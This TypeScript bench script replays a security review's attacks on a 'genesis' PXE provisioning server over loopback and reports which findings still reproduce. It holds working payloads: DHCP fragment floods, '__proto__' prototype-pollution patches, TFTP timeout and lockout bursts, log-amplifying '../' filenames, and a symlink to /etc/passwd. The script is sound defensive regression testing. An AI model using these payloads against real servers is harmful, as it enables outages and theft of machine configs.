// The security review's attacks, replayed from second addresses on loopback (127.0.13.x) against a
// `genesis serve` of any checkout, so one script measures before and after:
//
//   node bench/lan-attack.ts                    # this checkout
//   node bench/lan-attack.ts --repo /tmp/old    # another one (e.g. a git worktree at an older commit)
//
// For each finding it prints whether the attack still works, and the worst /healthz answer time
// under each flood next to the same with no attack, measured in the same run. Bounded in count and
// time; loopback only. A script, not a test: it reports, it does not judge.

import { spawn, type ChildProcess } from 'node:child_process';
import dgram from 'node:dgram';
import { once } from 'node:events';
import { mkdirSync, mkdtempSync, rmSync, statSync, symlinkSync, writeFileSync } from 'node:fs';
import http from 'node:http';
import net from 'node:net';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { parseArgs } from 'node:util';

const { values } = parseArgs({ options: { repo: { type: 'string' } } });
const repo = path.resolve(values.repo ?? path.join(import.meta.dirname, '..'));
const TOKEN = 'bench-token-0123456789abcdef';
const REAL = '127.0.13.2';
const EVIL = '127.0.13.66';

let stopping = false;

type Started = { child: ChildProcess; url: string; tftp: number; dhcp: number; sink: number; dir: string; logBytes: () => number };

async function startGenesis(): Promise<Started> {
  const dir = mkdtempSync(path.join(tmpdir(), 'genesis-attack-'));
  mkdirSync(path.join(dir, 'assets', 'ipxe'), { recursive: true });
  mkdirSync(path.join(dir, 'assets', 'talos', 'v1.13.9', 'amd64'), { recursive: true });
  mkdirSync(path.join(dir, 'assets', 'talos', 'v1.14.0', 'amd64'), { recursive: true });
  for (const v of ['v1.13.9', 'v1.14.0']) for (const f of ['vmlinuz', 'initramfs.xz']) writeFileSync(path.join(dir, 'assets', 'talos', v, 'amd64', f), 'x');
  const child = spawn(process.execPath, [path.join(repo, 'bin', 'genesis.js'), 'serve'], {
    cwd: dir,
    env: {
      PATH: process.env.PATH,
      GENESIS_ADVERTISE_ADDR: '127.0.0.1',
      GENESIS_HTTP_HOST: '127.0.0.1',
      GENESIS_HTTP_PORT: '0',
      GENESIS_TFTP_HOST: '127.0.0.1',
      GENESIS_TFTP_PORT: '0',
      GENESIS_DHCP_PROXY: 'true',
      GENESIS_DHCP_PORT: '0',
      GENESIS_DHCP_PXE_PORT: '0',
      GENESIS_EVENTS_HOST: '127.0.0.1',
      GENESIS_EVENTS_SINK_PORT: '0',
      GENESIS_EVENTS_KERNEL_LOG_PORT: '0',
      GENESIS_API_TOKEN: TOKEN,
      GENESIS_CLUSTER_ENDPOINT: 'https://192.0.2.10:6443',
      GENESIS_LOG_FORMAT: 'json',
    },
    stdio: ['ignore', 'pipe', 'pipe'],
  });
  let bytes = 0;
  let buffered: string | undefined = '';
  const ready = new Promise<Record<string, { port: number; pxePort?: number; sink?: { port: number } }>>((resolve) => {
    child.stdout!.on('data', (d: Buffer) => {
      bytes += d.length;
      // Only the lines up to 'genesis ready' are read; after that the log is only counted.
      if (buffered === undefined) return;
      buffered += d.toString();
      const at = buffered.indexOf('"genesis ready"');
      if (at === -1) return;
      const start = buffered.lastIndexOf('\n', at) + 1;
      const end = buffered.indexOf('\n', at);
      if (end === -1) return;
      resolve(JSON.parse(buffered.slice(start, end)));
      buffered = undefined;
    });
  });
  let stderrTail = '';
  child.stderr!.on('data', (d: Buffer) => {
    bytes += d.length;
    stderrTail = (stderrTail + d.toString()).slice(-2000);
  });
  child.on('exit', (code, signal) => {
    if (!stopping) console.error(`genesis exited by itself (code ${code}, signal ${signal}); its stderr ended with: ${stderrTail}`);
  });
  const r = (await ready) as unknown as { http: { port: number }; tftp: { port: number }; dhcp: { port: number }; events: { sink: { port: number } } };
  return { child, url: `http://127.0.0.1:${r.http.port}`, tftp: r.tftp.port, dhcp: r.dhcp.port, sink: r.events.sink.port, dir, logBytes: () => bytes };
}

function request(method: string, url: string, opts: { from?: string; body?: unknown; auth?: boolean } = {}): Promise<{ status: number; body: string }> {
  return new Promise((resolve) => {
    const data = opts.body === undefined ? undefined : JSON.stringify(opts.body);
    const req = http.request(url, { method, localAddress: opts.from, agent: false, headers: { ...(opts.auth ? { authorization: `Bearer ${TOKEN}` } : {}), ...(data ? { 'content-type': 'application/json' } : {}) } }, (res) => {
      let body = '';
      res.setEncoding('utf8');
      res.on('data', (c: string) => (body += c));
      res.on('end', () => resolve({ status: res.statusCode ?? 0, body }));
    });
    // A reset or refused connection is an answer here too (status 0), not a crash of the bench.
    req.on('error', (err: NodeJS.ErrnoException) => resolve({ status: 0, body: err.code ?? String(err) }));
    req.end(data);
  });
}
const script = (g: Started, mac: string, from: string) => request('GET', `${g.url}/ipxe/node?mac=${mac}&buildarch=x86_64&platform=efi`, { from });
const configUrl = (s: string) => / talos\.config=(\S+)/.exec(s)?.[1];

/** Worst /healthz answer time (ms) while `load` runs, probing every 20 ms. */
async function worstHealth(g: Started, load: () => Promise<unknown>): Promise<number> {
  let worst = 0;
  let stop = false;
  const probe = (async () => {
    while (!stop) {
      const t = performance.now();
      await request('GET', `${g.url}/healthz`).catch(() => undefined);
      worst = Math.max(worst, performance.now() - t);
      await new Promise((r) => setTimeout(r, 20));
    }
  })();
  await load();
  stop = true;
  await probe;
  return worst;
}

const results: Array<[string, string]> = [];
const latency: Array<[string, number]> = [];
const report = (finding: string, reproduces: boolean, detail: string) => {
  results.push([finding, `${reproduces ? 'REPRODUCES' : 'closed    '}  ${detail}`]);
  console.error(`done: ${finding}`);
};

/** One attack against a fresh Genesis (a crash or a polluted process must not spoil the next one). */
async function attack(name: string, run: (g: Started) => Promise<void>): Promise<void> {
  const g = await startGenesis();
  stopping = false;
  try {
    await run(g);
  } catch (err) {
    results.push([name, `(the attack could not finish: ${(err as Error).message.slice(0, 120)})`]);
  } finally {
    stopping = true;
    if (g.child.exitCode === null && g.child.signalCode === null) {
      g.child.kill('SIGTERM');
      await once(g.child, 'exit');
    }
    rmSync(g.dir, { recursive: true, force: true });
  }
  console.error(`done: ${name}`);
}

async function main(): Promise<void> {
  await attack('baseline', async (g) => {
    latency.push(['no attack (3 s of probes)', await worstHealth(g, () => new Promise((r) => setTimeout(r, 3000)))]);
  });

  await attack('1 config theft', async (g) => {
    const mac = '52:54:00:ee:00:01';
    await request('PUT', `${g.url}/api/v1/nodes/${mac}`, { auth: true, body: { role: 'controlplane' } });
    const realUrl = configUrl((await script(g, mac, REAL)).body);
    const stolen = configUrl((await script(g, mac, EVIL)).body);
    const cfg = stolen ? await request('GET', stolen, { from: EVIL }) : { status: 0, body: '' };
    const realAfter = realUrl ? (await request('GET', realUrl, { from: REAL })).status : 0;
    report('1a config by MAC from a 2nd address', cfg.status === 200 && cfg.body.includes('key:'), `attacker's config fetch: ${cfg.status || 'no URL given'}; real machine's own fetch afterwards: ${realAfter}`);
    const mac2 = '52:54:00:ee:00:02';
    await request('PUT', `${g.url}/api/v1/nodes/${mac2}`, { auth: true, body: { role: 'worker' } });
    await script(g, mac2, REAL);
    await request('POST', `${g.url}/api/v1/nodes/${mac2}/installed`, { auth: true });
    await script(g, mac2, EVIL);
    const installed = JSON.parse((await request('GET', `${g.url}/api/v1/nodes/${mac2}`, { auth: true })).body || '{}') as { lastIp: string };
    report('1b installed node lastIp overwritten', installed.lastIp === EVIL, `lastIp after the attacker's request: ${installed.lastIp}`);
    // 1c: auto-assign makes a stranger a control plane (the default mode, as before).
  });

  await attack('2 dhcp', async (g) => {
    // 2. Quadratic DHCP decode.
    const frag = (() => {
      const head = Buffer.alloc(240);
      head[0] = 1;
      head[1] = 1;
      head[2] = 6;
      head.writeUInt32BE(0x63825363, 236);
      const n = 21_000;
      const body = Buffer.alloc(n * 3 + 1);
      for (let i = 0; i < n; i++) body.set([93, 1, 0], i * 3);
      body[n * 3] = 255;
      return Buffer.concat([head, body]);
    })();
    const sock = dgram.createSocket('udp4');
    await new Promise<void>((r) => sock.bind(0, EVIL, r));
    const dhcpWorst = await worstHealth(g, async () => {
      for (let i = 0; i < 50; i++) {
        sock.send(frag, g.dhcp, '127.0.0.1');
        await new Promise((r) => setTimeout(r, 40));
      }
    });
    sock.close();
    latency.push(['50 DHCP packets of 21,000 one-byte fragments, 25/s', dhcpWorst]);
    report('2 DHCP fragments stall the process', dhcpWorst > 1000, `worst /healthz ${dhcpWorst.toFixed(0)} ms`);
  });

  await attack('3 pollution', async (g) => {
    // 3. Prototype pollution through a node patch.
    const pol = await request('PUT', `${g.url}/api/v1/nodes/52:54:00:ee:03:01`, { auth: true, body: { role: 'worker', configPatch: '- op: add\n  path: /__proto__/installDisk\n  value: /dev/pwned\n' } });
    const list = await request('GET', `${g.url}/api/v1/nodes`, { auth: true });
    report('3 prototype pollution via a patch', list.status !== 200 || list.body.includes('/dev/pwned'), `patch answer ${pol.status}; GET /nodes afterwards ${list.status}${list.body.includes('/dev/pwned') ? ', shows /dev/pwned' : ''}`);
  });

  await attack('4 tftp', async (g) => {
    // 4. TFTP slot held for an hour.
    const t = dgram.createSocket('udp4');
    await new Promise<void>((r) => t.bind(0, EVIL, r));
    writeFileSync(path.join(g.dir, 'assets', 'ipxe', 'undionly.kpxe'), Buffer.alloc(100_000));
    const rrq = Buffer.concat([Buffer.from([0, 1]), Buffer.from('undionly.kpxe\u0000octet\u0000timeout\u0000255\u0000')]);
    const answer = once(t, 'message');
    t.send(rrq, g.tftp, '127.0.0.1');
    const first = (await Promise.race([answer, new Promise((r) => setTimeout(() => r([Buffer.alloc(0)]), 5000))])) as [Buffer];
    const opcode = first[0].length >= 2 ? first[0].readUInt16BE(0) : 0;
    const granted = opcode === 6 && first[0].includes(Buffer.from('timeout\x00255'));
    report('4 TFTP timeout 255 granted', granted, opcode === 6 ? `OACK ${JSON.stringify(first[0].subarray(2).toString('latin1').replace(/\0/g, ' ').trim())}` : opcode === 3 ? 'DATA at once: no option acknowledged' : `no answer (opcode ${opcode})`);
    t.close();
  });

  await attack('5 sink', async (g) => {
    // 5. Idle connections to the event sink.
    const held: net.Socket[] = [];
    const sinkWorst = await worstHealth(g, async () => {
      for (let i = 0; i < 256; i++) {
        const s = net.connect({ host: '127.0.0.1', port: g.sink, localAddress: EVIL });
        s.on('error', () => {});
        held.push(s);
      }
      await new Promise((r) => setTimeout(r, 1000));
    });
    latency.push(['256 idle connections to the event sink', sinkWorst]);
    const open = held.filter((s) => !s.destroyed && s.readyState === 'open').length;
    report('5 256 idle sink connections from one address', open > 16, `${open} of 256 still open after 1 s`);
    for (const s of held) s.destroy();
  });

  await attack('6 log', async (g) => {
    // 6. Log flood through TFTP filenames.
    const before = g.logBytes();
    const lf = dgram.createSocket('udp4');
    await new Promise<void>((r) => lf.bind(0, EVIL, r));
    let sent = 0;
    let answers = 0;
    let wake: (() => void) | undefined;
    lf.on('message', () => {
      answers++;
      wake?.();
    });
    const logWorst = await worstHealth(g, async () => {
      for (let i = 0; i < 500; i++) {
        const pkt = Buffer.concat([Buffer.from([0, 1]), Buffer.from(`../${'x'.repeat(65_000)}${i}\u0000octet\u0000`)]);
        sent += pkt.length;
        const want = answers + 1;
        lf.send(pkt, g.tftp, '127.0.0.1');
        // Each answer before the next request (a bounded wait in case one is lost).
        await Promise.race([new Promise<void>((r) => (wake = () => answers >= want && r())), new Promise((r) => setTimeout(r, 200))]);
      }
    });
    lf.close();
    await new Promise((r) => setTimeout(r, 500));
    const logged = g.logBytes() - before;
    latency.push(['500 TFTP requests with 65 KB filenames', logWorst]);
    report('6 log amplification', logged > sent / 10, `${(sent / 1e6).toFixed(1)} MB sent, ${(logged / 1e6).toFixed(2)} MB of log`);
  });

  await attack('7 history', async (g) => {
    // 7. History wiped by bad-token fetches.
    const mac7 = '52:54:00:ee:07:01';
    await request('PUT', `${g.url}/api/v1/nodes/${mac7}`, { auth: true, body: { role: 'worker' } });
    for (let i = 0; i < 1100; i++) await request('GET', `${g.url}/talos/config/${mac7}/${'0'.repeat(64)}`, { from: EVIL });
    const ev = JSON.parse((await request('GET', `${g.url}/api/v1/nodes/${mac7}/events?limit=1000`, { auth: true })).body) as { events: Array<{ type: string }> };
    const audit = ev.events.filter((e) => e.type === 'api-change').length;
    report('7 audit trail wiped by 1,100 bad fetches', audit === 0, `api-change events left: ${audit}; config-denied events: ${ev.events.filter((e) => e.type === 'config-denied').length}`);
  });

  await attack('8 discovery', async (g) => {
    // 8. Unbounded discovery.
    const discWorst = await worstHealth(g, async () => {
      for (let i = 0; i < 2000; i++) await script(g, `02:00:00:ee:${(i >> 8).toString(16).padStart(2, '0')}:${(i & 255).toString(16).padStart(2, '0')}`, EVIL);
    });
    const nodes = (JSON.parse((await request('GET', `${g.url}/api/v1/nodes`, { auth: true })).body) as { nodes: unknown[] }).nodes.length;
    latency.push(['2,000 made-up MACs from one address', discWorst]);
    report('8 inventory grows without bound', nodes > 500, `${nodes} nodes after 2,000 made-up MACs`);
  });

  await attack('9 smaller', async (g) => {
    // 9. Smaller findings that can be seen from outside.
    mkdirSync(path.join(g.dir, 'assets', 'talos', 'evil'), { recursive: true });
    symlinkSync('/etc/passwd', path.join(g.dir, 'assets', 'talos', 'evil', 'vmlinuz'));
    const sym = await request('GET', `${g.url}/assets/talos/evil/vmlinuz`);
    report('9a /assets/ follows a symlink out', sym.status === 200, `status ${sym.status}`);
    const db = path.join(g.dir, 'data', 'genesis.db');
    const mode = (statSync(db).mode & 0o777).toString(8);
    report('9b genesis.db readable by others', (statSync(db).mode & 0o077) !== 0, `mode ${mode}; data dir ${(statSync(path.join(g.dir, 'data')).mode & 0o777).toString(8)}`);
    const p9 = await request('PUT', `${g.url}/api/v1/nodes/52:54:00:ee:09:01`, { auth: true, body: { role: 'worker', configPatch: 'machine:\n  sysctls:\n    user.secret_note: hunter2\n' } });
    const ev9 = (await request('GET', `${g.url}/api/v1/nodes/52:54:00:ee:09:01/events`, { auth: true })).body;
    report('9c patches unredacted in events', ev9.includes('hunter2'), `patch answer ${p9.status}`);
  });

  await attack('10 tftp lockout', async (g) => {
    // 10. A burst of read requests sent with a machine's address (here: from it, on 30 ports),
    // never answered, then the machine's own request.
    writeFileSync(path.join(g.dir, 'assets', 'ipxe', 'undionly.kpxe'), Buffer.alloc(100_000));
    const rrq = Buffer.concat([Buffer.from([0, 1]), Buffer.from('undionly.kpxe\u0000octet\u0000blksize\u00001468\u0000')]);
    const ports = await Promise.all(
      Array.from({ length: 30 }, async () => {
        const u = dgram.createSocket('udp4');
        u.on('message', () => {});
        await new Promise<void>((r) => u.bind(0, REAL, r));
        return u;
      }),
    );
    const before = g.logBytes();
    const burstWorst = await worstHealth(g, async () => {
      for (let i = 0; i < 100; i++) {
        for (const u of ports) u.send(rrq, g.tftp, '127.0.0.1');
        await new Promise((r) => setTimeout(r, 5));
      }
    });
    latency.push(['3,000 TFTP requests from one address, never answered', burstWorst]);
    const own = dgram.createSocket('udp4');
    await new Promise<void>((r) => own.bind(0, REAL, r));
    const answer = once(own, 'message');
    own.send(Buffer.concat([Buffer.from([0, 1]), Buffer.from('undionly.kpxe\u0000octet\u0000')]), g.tftp, '127.0.0.1');
    const [first] = (await Promise.race([answer, new Promise((r) => setTimeout(() => r([Buffer.alloc(0)]), 5000))])) as [Buffer];
    const opcode = first.length >= 2 ? first.readUInt16BE(0) : 0;
    const said = opcode === 5 ? `ERROR "${first.subarray(4, first.length - 1).toString('latin1')}"` : opcode === 3 ? 'DATA block 1' : `no answer (opcode ${opcode})`;
    report('10 TFTP burst locks a machine out', opcode !== 3, `its own request right after: ${said}; ${((g.logBytes() - before) / 1e3).toFixed(1)} KB of log`);
    for (const u of [...ports, own]) u.close();
  });

  console.log(`Genesis at ${repo}\n`);
  for (const [f, r] of results) console.log(`${f.padEnd(44)} ${r}`);
  console.log('\nworst /healthz answer, same run:');
  for (const [what, ms] of latency) console.log(`  ${what.padEnd(52)} ${ms.toFixed(1)} ms`);
  console.log(`\n${results.filter(([, r]) => r.startsWith('REPRODUCES')).length} of ${results.length} attacks reproduce`);
}

await main();
// Sockets a killed server left half-open must not keep the bench alive.
process.exit(0);
